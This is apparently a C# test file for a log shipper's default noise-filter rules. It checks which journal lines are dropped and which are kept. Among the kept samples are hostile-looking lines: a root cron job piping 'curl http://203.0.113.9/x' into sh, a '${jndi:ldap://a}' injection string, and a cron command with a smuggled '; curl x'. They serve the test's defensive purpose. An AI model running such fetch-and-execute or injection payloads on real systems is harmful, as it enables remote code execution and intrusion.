using System.Text;
using DevMesh.Domain.Logs;
using DevMesh.Shipper.Filtering;
using DevMesh.Shipper.Journal;
using DevMesh.Tests.Support;
using static DevMesh.Tests.Shipper.Filtering.TestEntries;

namespace DevMesh.Tests.Shipper.Filtering;

/// <summary>The file that ships does what its comments say, on lines as such programs write them.</summary>
public sealed class DefaultRulesTests
{
    private const string Combined = "10.0.0.7 - - [20/Nov/2026:06:00:01 +0000] ";
    private const string App = "2026-11-20T06:00:01.123Z info: DevMesh.Functions.Http.HttpPipeline[2] ";
    private const string Gin = "[GIN] 2026/11/20 - 06:08:18 | 200 |     28.3µs |       127.0.0.1 | ";

    private static readonly FilterRules Default = FilterRules.Default;

    /// <summary>Rule, service, identifier, level, message.</summary>
    public static TheoryData<string, string?, string, int, string> Dropped => new()
    {
        { "devmesh-requests-of-shippers", "devmesh.service", "dotnet", 6, App + "Request 4f3a: POST /ingest/logs was refused with 429: too many" },
        { "devmesh-requests-of-shippers", "docker.service", "devmesh", 6, App + "Request 4f3a: POST /nodes/gpu-node/heartbeat was refused with 404: no" },
        { "devmesh-requests-of-shippers", "devmesh.service", "dotnet", 7, "Request 4f3a: POST /ingest/logs was given up by its caller" },
        { "devmesh-requests-of-shippers", "devmesh.service", "dotnet", 6, "Request finished HTTP/1.1 POST http://monitoring-vm:8000/ingest/logs - 200 - application/json 12.3ms" },
        { "devmesh-requests-of-shippers", "nginx.service", "nginx", 6, Combined + "\"POST /ingest/logs HTTP/1.1\" 200 91 \"-\" \"devmesh-shipper/0.1\"" },
        { "devmesh-requests-of-shippers", "nginx.service", "nginx", 6, Combined + "\"POST /nodes/gpu-node/heartbeat HTTP/1.1\" 204 0 \"-\" \"devmesh-shipper/0.1\"" },
        { "devmesh-requests-of-shippers", "docker.service", "host", 6, "Executing 'Functions.IngestLogs' (Reason='This function was programmatically called via the host APIs.', Id=1)" },
        { "devmesh-requests-of-shippers", "docker.service", "host", 6, "Executed 'Functions.IngestLogs' (Succeeded, Id=1, Duration=12ms)" },
        { "health-checks", "nginx.service", "nginx", 6, Combined + "\"GET /health HTTP/1.1\" 200 2 \"-\" \"curl/8.5.0\"" },
        { "health-checks", "open-webui.service", "open-webui", 6, "INFO:     10.0.10.55:59634 - \"GET /health HTTP/1.1\" 200 OK" },
        { "health-checks", "docker.service", "prometheus", 6, Combined + "\"GET /-/healthy HTTP/1.1\" 200 30" },
        { "health-checks", "nginx.service", "nginx", 6, Combined + "\"HEAD /api/v1/readyz HTTP/2.0\" 204 0" },
        { "metrics-scrapes", "apache2.service", "apache2", 6, Combined + "\"GET /metrics HTTP/1.1\" 200 5123 \"-\" \"Prometheus/2.53.0\"" },
        { "qemu-guest-ping", "qemu-guest-agent.service", "qemu-ga", 6, "info: guest-ping called" },
        { "docker-health-commands", "docker-events.service", "docker-events", 6, "2026-11-20T06:00:17Z container exec_start: /bin/sh -c pg_isready -U app cd2491 (image=postgres:16, name=db)" },
        { "ollama-polling", "ollama.service", "ollama", 6, Gin + "HEAD     \"/\"" },
        { "ollama-polling", "ollama.service", "ollama", 6, Gin + "GET      \"/api/tags\"" },
        { "cron-sessions-of-root", "cron.service", "CRON", 6, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)" },
        { "cron-sessions-of-root", "cron.service", "CRON", 6, "pam_unix(cron:session): session closed for user root" },
        { "cron-sessions-of-root", "crond.service", "crond", 6, "pam_unix(crond:session): session opened for user root(uid=0) by root(uid=0)" },
        { "cron-jobs-of-the-system", "cron.service", "CRON", 6, "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)" },
        { "cron-jobs-of-the-system", "cron.service", "CRON", 6, "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)" },
        { "systemd-timer-jobs", "init.scope", "systemd", 6, "Starting apt-daily.service - Daily apt download activities..." },
        { "systemd-timer-jobs", "init.scope", "systemd", 6, "Finished logrotate.service - Rotate log files." },
        { "systemd-timer-jobs", "init.scope", "systemd", 6, "man-db.service: Deactivated successfully." },
        { "systemd-timer-jobs", "init.scope", "systemd", 6, "prometheus-node-exporter-apt.service: Consumed 1.402s CPU time." },
        { "container-mounts", "init.scope", "systemd", 6, "run-docker-runtime\\x2drunc-moby-7a49f761d167-runc.bVJ4Ew.mount: Deactivated successfully." },
        { "container-mounts", "init.scope", "systemd", 6, "var-lib-docker-overlay2-9f1c8d-merged.mount: Deactivated successfully." },
        { "user-manager-start", "user@1000.service", "systemd", 6, "Reached target paths.target - Paths." },
        { "user-manager-start", "user@1000.service", "systemd", 6, "Listening on gpg-agent.socket - GnuPG cryptographic agent and passphrase cache." },
        { "rsyslog-reopened", "rsyslog.service", "rsyslogd", 6, "[origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"763\" x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed" },
        { "dhcp-renewals", "ifup@ens18.service", "dhclient", 6, "DHCPACK of 10.0.10.10 from 10.0.10.1" },
        { "veth-kernel", null, "kernel", 6, "docker0: port 9(veth36ec2e1) entered blocking state" },
        { "veth-kernel", null, "kernel", 6, "br-24c5988dc34c: port 1(veth4961fef) entered disabled state" },
        { "veth-kernel", null, "kernel", 6, "device veth36ec2e1 entered promiscuous mode" },
        { "veth-kernel", null, "kernel", 6, "veth4961fef (unregistering): left promiscuous mode" },
        { "veth-kernel", null, "kernel", 6, "eth0: renamed from veth36ec2e1" },
        { "veth-kernel", null, "kernel", 6, "IPv6: ADDRCONF(NETDEV_CHANGE): veth36ec2e1: link becomes ready" },
        { "veth-networkd", "systemd-networkd.service", "systemd-networkd", 6, "veth36ec2e1: Gained IPv6LL" },
        { "veth-networkmanager", "NetworkManager.service", "NetworkManager", 6, "<info>  [1795154406.7286] manager: (veth36ec2e1): new Veth device (/org/freedesktop/NetworkManager/Devices/12)" },
        { "veth-avahi", "avahi-daemon.service", "avahi-daemon", 6, "Joining mDNS multicast group on interface veth36ec2e1.IPv6 with address fe80::1." },
        { "veth-avahi", "avahi-daemon.service", "avahi-daemon", 6, "Withdrawing address record for fe80::1 on veth36ec2e1." },
        { "docker-ignored-events", "docker.service", "dockerd", 6, "time=\"2026-11-20T06:00:24Z\" level=info msg=\"ignoring event\" container=cd2491 module=libcontainerd namespace=moby topic=/tasks/delete" },
        { "dbus-activation", "dbus.service", "dbus-daemon", 5, "[system] Activating via systemd: service name='org.freedesktop.hostname1' unit='dbus-org.freedesktop.hostname1.service' requested by ':1.43'" },
        { "dbus-activation", "dbus.service", "dbus-daemon", 5, "[system] Successfully activated service 'org.freedesktop.hostname1'" },
        { "polkit-agents", "polkit.service", "polkitd", 5, "Registered Authentication Agent for unix-process:3589:7946415 (system bus name :1.103)" },
        { "postgres-checkpoint-start", "postgresql@16-main.service", "postgres", 6, "2026-11-20 06:48:25.306 UTC [1879] LOG:  checkpoint starting: time" },
        { "postgres-exporter-logins", "postgresql@16-main.service", "postgres", 6, "2026-11-20 06:48:25.341 UTC [5300] x@y LOG:  connection authorized: user=postgres_exporter database=postgres" },
        { "ollama-model-description", "ollama.service", "ollama", 6, "llama_model_loader: - kv  10:                          general.architecture str              = gemma2" },
    };

    /// <summary>Service, identifier, level, message of lines that look much like those and stay.</summary>
    public static TheoryData<string?, string, int, string> Kept => new()
    {
        { "devmesh.service", "dotnet", 6, App + "Request 4f3a: POST /ingest/logs was refused with 401: the key is wrong" },
        { "devmesh.service", "dotnet", 6, App + "Request 4f3a: POST /ingest/logs failed with 500" },
        { "devmesh.service", "dotnet", 6, App + "Request 4f3a: GET /search/logs was refused with 400: query" },
        { "docker.service", "host", 6, "Executed 'Functions.IngestLogs' (Failed, Id=1, Duration=12ms)" },
        { "nginx.service", "nginx", 6, Combined + "\"POST /ingest/logs HTTP/1.1\" 401 91 \"-\" \"curl/8\"" },
        { "nginx.service", "nginx", 6, Combined + "\"GET /health HTTP/1.1\" 503 2 \"-\" \"curl/8.5.0\"" },
        { "nginx.service", "nginx", 6, Combined + "\"GET /health?x=${jndi:ldap://a} HTTP/1.1\" 200 2" },
        { "nginx.service", "nginx", 6, Combined + "\"GET /login HTTP/1.1\" 200 2 \"GET /health HTTP/1.1\" 200" },
        { "nginx.service", "nginx", 6, Combined + "\"GET /healthy-eating HTTP/1.1\" 200 2" },
        { "nginx.service", "nginx", 6, Combined + "\"DELETE /metrics HTTP/1.1\" 200 2" },
        { "qemu-guest-agent.service", "qemu-ga", 6, "info: guest-fsfreeze called" },
        { "docker-events.service", "docker-events", 6, "2026-11-20T06:00:17Z container exec_start: /bin/bash cd2491 (image=postgres:16, name=db)" },
        { "ollama.service", "ollama", 6, Gin + "POST     \"/api/chat\"" },
        { "ollama.service", "ollama", 6, Gin.Replace("200", "500", StringComparison.Ordinal) + "GET      \"/api/tags\"" },
        { "cron.service", "CRON", 6, "pam_unix(cron:session): session opened for user alice(uid=1000) by (uid=0)" },
        { "cron.service", "CRON", 6, "(root) CMD (curl http://203.0.113.9/x | sh)" },
        { "cron.service", "CRON", 6, "(root) CMD (cd / && run-parts --report /etc/cron.hourly); curl x)" },
        { "cron.service", "CRON", 6, "(alice) CMD (/usr/local/bin/backup-home --quiet)" },
        { "init.scope", "systemd", 6, "Started nginx.service - A high performance web server and a reverse proxy server." },
        { "init.scope", "systemd", 6, "mariadb.service: Deactivated successfully." },
        { "init.scope", "systemd", 4, "logrotate.service: Failed with result 'exit-code'." },
        { "init.scope", "systemd", 5, "logrotate.service: Main process exited, code=exited, status=1/FAILURE" },
        { "init.scope", "systemd", 6, "mnt-backup.mount: Deactivated successfully." },
        { "user@1000.service", "systemd", 6, "Started syncthing.service - Open Source Continuous File Synchronization." },
        { "ifup@ens18.service", "dhclient", 6, "DHCPDISCOVER on ens18 to 255.255.255.255 port 67 interval 3" },
        { null, "kernel", 6, "e1000e 0000:00:1f.6 eno1: NIC Link is Up 1000 Mbps Full Duplex" },
        { null, "kernel", 6, "device eno1 entered promiscuous mode" },
        { null, "kernel", 6, "node[1519]: segfault at 639cbae6fbaa ip 00005f10e93dc9db sp 0000d2115a8845ca error 4 in libc.so.6" },
        { "systemd-networkd.service", "systemd-networkd", 6, "ens18: Lost carrier" },
        { "NetworkManager.service", "NetworkManager", 6, "<warn>  [1795154406.7286] device (veth36ec2e1): failed to disable userspace IPv6LL" },
        { "docker.service", "dockerd", 6, "time=\"2026-11-20T06:00:24Z\" level=info msg=\"Container failed to exit within 10s of signal 15 - using the force\"" },
        { "dbus.service", "dbus-daemon", 5, "[system] Failed to activate service 'org.freedesktop.hostname1': timed out" },
        { "polkit.service", "polkitd", 5, "Operator of unix-session:1 successfully authenticated as unix-user:root" },
        { "postgresql@16-main.service", "postgres", 6, "2026-11-20 06:48:25.306 UTC [1879] LOG:  connection received: host=10.0.10.30 port=60103" },
        { "postgresql@16-main.service", "postgres", 6, "x FATAL:  password authentication failed for user \"postgres_exporter\"" },
        { "ssh.service", "sshd", 6, "Failed password for invalid user deploy from 206.182.24.232 port 57444 ssh2" },
        { "ssh.service", "sshd", 5, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=206.182.24.232" },
        { "ssh.service", "sshd", 6, "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)" },
        { "session-41.scope", "sudo", 5, "pam_unix(sudo:auth): authentication failure; logname=bob uid=1004 euid=0 tty=/dev/pts/4 ruser=bob rhost=" },
        { "mariadb.service", "mariadbd", 6, "2026-11-20  6:00:34 25816 [Warning] Access denied for user 'root'@'10.0.0.9' (using password: YES)" },
        { null, "kernel", 3, "NVRM: Xid (PCI:0000:01:00): 79, pid='<unknown>', name=<unknown>, GPU has fallen off the bus." },
    };

    [Theory]
    [MemberData(nameof(Dropped))]
    public void Noise_is_dropped_by_its_rule(string rule, string? service, string identifier, int level, string message)
    {
        Decision decision = Decide(Default, Entry(message, service, identifier, level));
        Assert.Equal((FilterOutcome.Drop, rule), (decision.Outcome, decision.Rule < 0 ? "" : Default.Rules[decision.Rule].Name));
    }

    [Theory]
    [MemberData(nameof(Kept))]
    public void What_looks_like_it_and_tells_something_is_kept(string? service, string identifier, int level, string message) =>
        Assert.Equal(FilterOutcome.Keep, Decide(Default, Entry(message, service, identifier, level)).Outcome);

    [Theory]
    [MemberData(nameof(Dropped))]
    public void The_same_line_at_warning_is_kept(string rule, string? service, string identifier, int level, string message)
    {
        Assert.True(level > (int)Level.Warning, rule);
        Assert.Equal(FilterOutcome.Keep, Decide(Default, Entry(message, service, identifier, (int)Level.Warning)).Outcome);
    }

    [Fact]
    public void Every_rule_that_drops_has_a_line_here()
    {
        IEnumerable<string> named = Dropped.Select(each => (string)each[0]).Distinct();
        IEnumerable<string> dropping = Default.Rules.Where(each => each.Action == RuleAction.Drop).Select(each => each.Name);
        Assert.Equal(dropping.Order(), named.Order());
    }

    [Fact]
    public void No_rule_but_the_one_on_firewall_blocks_can_take_away_a_warning_or_worse()
    {
        LevelSet bad = LevelSet.OrWorse(Level.Warning);
        IEnumerable<string> taking = Default.Rules
            .Where(each => each.Action != RuleAction.Keep && !each.Match.Levels.And(bad).IsEmpty).Select(each => each.Name);
        Assert.Equal(["firewall-blocks"], taking);
    }

    [Fact]
    public void A_flood_of_firewall_blocks_is_limited_and_other_words_of_the_kernel_are_not()
    {
        EntryFilter filter = new(Default, new FilterState());
        List<Decision> decisions = Batch(filter, Enumerable.Range(0, 200).Select(each => Entry(
            $"[UFW BLOCK] IN=ens18 OUT= SRC=203.0.113.9 DPT={each}", null, "kernel", 4, Noon + (each * 100_000L))));
        Assert.Equal(30, decisions.Count(each => each.Outcome == FilterOutcome.Keep));
        Assert.Equal(FilterOutcome.Keep, Batch(filter, [Entry("nf_conntrack: table full, dropping packet", null, "kernel", 4)])[0].Outcome);
    }

    [Fact]
    public void Debug_output_is_limited_for_each_service()
    {
        IEnumerable<JournalEntry> Chatter(string service) => Enumerable.Range(0, 100).Select(each => Entry(
            each % 2 == 0 ? $"slot {each} released" : $"ts={each} level=debug msg=x", service, service, each % 2 == 0 ? 7 : 6, Noon + each));
        List<Decision> decisions = Batch(
            new EntryFilter(Default, new FilterState()), [.. Chatter("a.service"), .. Chatter("a.service"), .. Chatter("b.service")]);
        Assert.Equal(2 * 60, decisions.Take(200).Count(each => each.Outcome == FilterOutcome.Keep));
        Assert.Equal(100, decisions.Skip(200).Count(each => each.Outcome == FilterOutcome.Keep));
    }

    [Fact]
    public void The_embedded_file_is_the_one_beside_the_executable() =>
        Assert.Equal(File.ReadAllText(Repository.File("DevMesh.Shipper/filter_config.yaml")), Default.Text);

    [Fact]
    public void No_warning_or_worse_of_the_sample_is_dropped()
    {
        EntryFilter filter = new(Default, new FilterState());
        filter.StartBatch();
        JournalEntry entry = new();
        int seen = 0;
        foreach (string file in Directory.GetFiles(Repository.File("DevMesh.Shipper/sample"), "*.jsonl"))
        {
            using StandardInputSource source = new(
                File.OpenRead(file), static _ => true, new FieldTable(FieldTable.DefaultShipped), message => Assert.Fail(message));
            while (source.Read(entry) == ReadResult.Entry)
            {
                bool bad = entry.Priority is >= 0 and <= (int)Level.Warning;
                seen += bad ? 1 : 0;
                FilterOutcome outcome = filter.Decide(entry, source).Outcome;
                Assert.False(bad && outcome == FilterOutcome.Drop, Encoding.UTF8.GetString(entry.Message));
            }
        }

        Assert.InRange(seen, 100, int.MaxValue);
    }
}
